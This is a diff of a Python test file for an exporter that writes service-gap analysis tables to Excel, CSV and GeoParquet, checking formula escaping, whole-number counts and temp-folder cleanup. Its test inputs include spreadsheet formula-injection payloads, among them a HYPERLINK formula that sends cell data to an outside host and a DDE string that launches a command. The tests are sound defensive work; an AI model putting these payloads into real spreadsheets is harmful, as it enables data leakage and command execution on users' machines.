@@ -112,7 +112,9 @@ def test_xlsx_chinese(tmp_path: Path, results) -> None:  # type: ignore[no-untyp
     rule_rows = list(rules_ws.iter_rows(min_row=2, values_only=True))
     assert [r[0] for r in rule_rows] == rules.rule_ids
     p3000 = rule_rows[2]
-    assert "004_758abde250e123ca.txt 贵州 2019" in p3000 and "三(四)19" in p3000
+    # cited by title and year (issue 16.2), as the rule set says
+    assert p3000[6] == rules.rules[2].source and "《关于加强和完善易地扶贫搬迁后续工作的意见》" in p3000[6]
+    assert p3000[7] == "三(四)19"
     assert rules_ws.freeze_panes == "A2"
     police = wb["警务室"]
     p_rows = list(police.iter_rows(min_row=2, values_only=True))
@@ -274,7 +276,7 @@ def test_rules_sheet_shows_capacity_norms(tmp_path: Path, results) -> None:  # t
     assert head[5] == "容量标准"
     rows = {r[0]: r for r in ws.iter_rows(min_row=2, values_only=True)}
     assert "每名民警 ≤ 5,000 人" in rows["police-ratio"][5]
-    assert "002_5ba54de6779e4404.txt" in rows["police-ratio"][5]
+    assert "保山市民政局《对市政协四届六次会议第0132号提案" in rows["police-ratio"][5]
     assert rows["police-800"][5] is None
 
 
@@ -296,3 +298,171 @@ def test_file_sha256_reads_a_file_once_and_sees_every_change(tmp_path: Path) -> 
     f.write_bytes(b"ELEVATION" * 1000)
     os.utime(f, ns=(st.st_atime_ns, st.st_mtime_ns + 1_000_000))
     assert file_sha256(f) == hashlib.sha256(b"ELEVATION" * 1000).hexdigest()
+
+
+# --------------------------------------------------------------------------------------
+# Text stays text (issue 18.2), counts stay whole (16.4), temp folders of killed runs (18.4)
+# --------------------------------------------------------------------------------------
+
+HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'
+
+
+def _hostile(gaps: pd.DataFrame) -> pd.DataFrame:
+    bad = gaps.copy()
+    bad["site_name"] = [HOSTILE, "+SUM(1,2)", "-2+3", "@cmd", "\tx", "#N/A"][: len(bad)] + \
+        ["普通"] * max(len(bad) - 6, 0)
+    bad["site_id"] = bad["site_id"].astype(str).where(bad["site_id"] != "S1", "=1+1")
+    bad["county"] = bad["county"].astype(str) + "\x01"  # a control character a sheet refuses
+    return bad
+
+
+@pytest.mark.parametrize("fast", [True, False])
+def test_xlsx_never_holds_a_formula(tmp_path: Path, results, fast: bool,  # type: ignore
+                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    import layers.sheets as sheets
+
+    monkeypatch.setattr(sheets, "_FAST_ROWS", fast)  # both ways of streaming rows
+    gaps, cov, access, rules = results
+    bad = _hostile(gaps)
+    paths = write_outputs(tmp_path / "o", gaps=bad, coverage=cov, access=access, rules=rules)
+    wb = openpyxl.load_workbook(paths["gaps.xlsx"])
+    texts = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for c in row:
+                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value}"
+                assert c.data_type != "e", f"{ws.title}!{c.coordinate} is an error value"
+                texts.append(c.value)
+    for col, text in [("site_name", t) for t in (HOSTILE, "+SUM(1,2)", "-2+3", "@cmd", "\tx",
+                                                 "#N/A")] + [("site_id", "=1+1")]:
+        n = int((bad[col] == text).sum())
+        assert n and texts.count(text) == 2 * n, text  # gap list and its type's sheet
+    assert "施甸县\ufffd" in texts  # the control character replaced, not a crash
+    gap_rows = list(wb["缺口清单"].iter_rows(min_row=2, values_only=True))
+    assert {r[4] for r in gap_rows} == {3200, 900, 120}  # numbers stay numbers
+    assert wb["缺口清单"]["E2"].number_format == "#,##0"
+
+
+def test_csv_neutralises_formula_text_and_keeps_numbers(tmp_path: Path,  # type: ignore
+                                                        results) -> None:
+    gaps, cov, access, rules = results
+    bad = _hostile(gaps)
+    bad["dist_m"] = -1.5  # a negative number is no formula: it stays a number
+    access_bad = access.assign(nearest_facility_id=access["nearest_facility_id"].where(
+        access["nearest_facility_id"] != "P1", "=cmd|' /C calc'!A0"))
+    paths = write_outputs(tmp_path / "o", gaps=bad, coverage=cov, access=access_bad,
+                          rules=rules)
+    raw = paths["gaps.csv"].read_text(encoding="utf-8-sig")
+    g = pd.read_csv(paths["gaps.csv"], encoding="utf-8-sig", keep_default_na=False)
+    names = set(g["site_name"])
+    assert {"'" + HOSTILE, "'+SUM(1,2)", "'-2+3", "'@cmd", "'\tx"} <= names
+    assert "#N/A" in names  # not a formula start: left as it is
+    assert "'=1+1" in set(g["site_id"])
+    assert ",-1.5," in raw and "'-1.5" not in raw
+    assert (g["dist_m"] == -1.5).all() and g["population"].dtype.kind == "i"
+    a = pd.read_csv(paths["access.csv"], encoding="utf-8-sig", keep_default_na=False)
+    assert "'=cmd|' /C calc'!A0" in set(a["nearest_facility_id"])
+    assert not any(str(v).startswith(("=", "+", "@")) for v in a["nearest_facility_id"])
+
+
+def test_csv_counts_are_whole_numbers(tmp_path: Path, results) -> None:  # type: ignore
+    gaps, cov, access, rules = results
+    assert gaps["households"].dtype.kind == "f" and gaps["households"].isna().any()
+    paths = write_outputs(tmp_path / "o", gaps=gaps, coverage=cov.astype(
+        {c: float for c in ("sites_required", "sites_covered", "pop_required", "pop_covered")}),
+        access=access, rules=rules)
+    lines = paths["gaps.csv"].read_text(encoding="utf-8-sig").splitlines()
+    head = lines[0].split(",")
+    hh = [line.split(",")[head.index("households")] for line in lines[1:]]
+    assert set(hh) == {"800", "210", ""}  # S2 has no household count: empty, not nan
+    assert not any(v.endswith(".0") for v in hh)
+    cov_lines = paths["coverage.csv"].read_text(encoding="utf-8-sig").splitlines()
+    chead = cov_lines[0].split(",")
+    for line in cov_lines[1:]:
+        cells = line.split(",")
+        for c in ("sites_required", "sites_covered", "pop_required", "pop_covered"):
+            assert cells[chead.index(c)].isdigit(), (c, line)
+        assert "." in cells[chead.index("share_sites")] or cells[chead.index("share_sites")] \
+            in ("0", "1", "")
+    # a fractional value keeps its decimals (not every float column is a count)
+    frac = gaps.assign(households=gaps["households"] + 0.5)
+    paths = write_outputs(tmp_path / "f", gaps=frac, coverage=cov, access=access, rules=rules)
+    f = pd.read_csv(paths["gaps.csv"], encoding="utf-8-sig")
+    assert set(f["households"].dropna()) == {800.5, 210.5}
+
+
+def _dead_pid() -> int:
+    import subprocess
+    import sys
+
+    proc = subprocess.Popen([sys.executable, "-c", "pass"])
+    proc.wait()
+    return proc.pid  # waited for: no process has this id now
+
+
+def test_stale_temp_folders_of_killed_runs_are_removed(tmp_path: Path,  # type: ignore
+                                                       results) -> None:
+    gaps, cov, access, rules = results
+    out = tmp_path / "demo"
+    dead = tmp_path / f".demo.tmp-{_dead_pid()}-abcd1234"
+    dead.mkdir()
+    (dead / "gaps.xlsx").write_bytes(b"complete-looking")
+    alive = tmp_path / f".demo.tmp-{os.getppid()}-efgh5678"  # a live process: left alone
+    alive.mkdir()
+    other = tmp_path / ".other.tmp-1-abcd1234"  # another output's folder: left alone
+    other.mkdir()
+    legacy_old = tmp_path / ".demo.tmp-k2j4h5g6"  # no pid (older versions), two days old
+    legacy_old.mkdir()
+    os.utime(legacy_old, (0, os.stat(legacy_old).st_mtime - 2 * 86400))
+    legacy_new = tmp_path / ".demo.tmp-a1b2c3d4"  # no pid, recent: may still be running
+    legacy_new.mkdir()
+    write_outputs(out, gaps=gaps, coverage=cov, access=access, rules=rules)
+    assert sorted(os.listdir(tmp_path)) == sorted(
+        ["demo", alive.name, other.name, legacy_new.name])
+    assert sorted(os.listdir(out)) == sorted(OUTPUT_FILES)
+
+
+def test_temp_folder_says_it_is_incomplete(tmp_path: Path, results) -> None:  # type: ignore
+    gaps, cov, access, rules = results
+    bad = gaps.copy()
+    bad["reason"] = [{"not": "a cell"}] * len(bad)
+    seen: list[list[str]] = []
+    import layers.export as export
+
+    real = export.atomic_write
+
+    def spy(path, writer):  # type: ignore[no-untyped-def]
+        tmp = Path(path).parent
+        seen.append(sorted(os.listdir(tmp)))
+        assert tmp.name.startswith(f".o.tmp-{os.getpid()}-")
+        return real(path, writer)
+
+    mp = pytest.MonkeyPatch()
+    mp.setattr(export, "atomic_write", spy)
+    try:
+        with pytest.raises(ValueError, match="Cannot convert"):
+            write_outputs(tmp_path / "o", gaps=bad, coverage=cov, access=access, rules=rules)
+    finally:
+        mp.undo()
+    assert seen and all("INCOMPLETE-未完成.txt" in names for names in seen)
+    note = export._INCOMPLETE_TEXT
+    assert "未完成" in note and "INCOMPLETE" in note
+
+
+def test_geoparquet_of_gaps_and_sites(tmp_path: Path, results) -> None:  # type: ignore
+    gaps, cov, access, rules = results
+    sites = gpd.GeoDataFrame({"site_id": ["S3", "S1", "S2"], "population": [3200, 900, 120]},
+                             geometry=[Point(LON0 + 0.05, LAT0), Point(LON0, LAT0),
+                                       Point(LON0 + 0.01, LAT0)], crs=4326)
+    paths = write_outputs(tmp_path / "o", gaps=gaps, coverage=cov, access=access, rules=rules,
+                          sites=sites, parquet=True)
+    assert {"gaps.parquet", "sites.parquet"} <= set(paths)
+    pts = gpd.read_parquet(paths["gaps.parquet"])
+    assert pts.crs.to_epsg() == 4326 and len(pts) == len(gaps)
+    assert set(GAPS_COLUMNS) <= set(pts.columns)
+    s3 = pts[pts["site_id"] == "S3"]
+    assert len(s3) == 3 and (s3.geometry.x.round(6) == round(LON0 + 0.05, 6)).all()
+    per_site = gpd.read_parquet(paths["sites.parquet"]).set_index("site_id")
+    assert per_site.loc["S3", "status"] == "unroutable" and per_site.loc["S1", "n_rules"] == 2
+    with pytest.raises(InputError, match="GeoParquet output needs the sites"):
+        write_outputs(tmp_path / "p", gaps=gaps, coverage=cov, access=access, parquet=True)
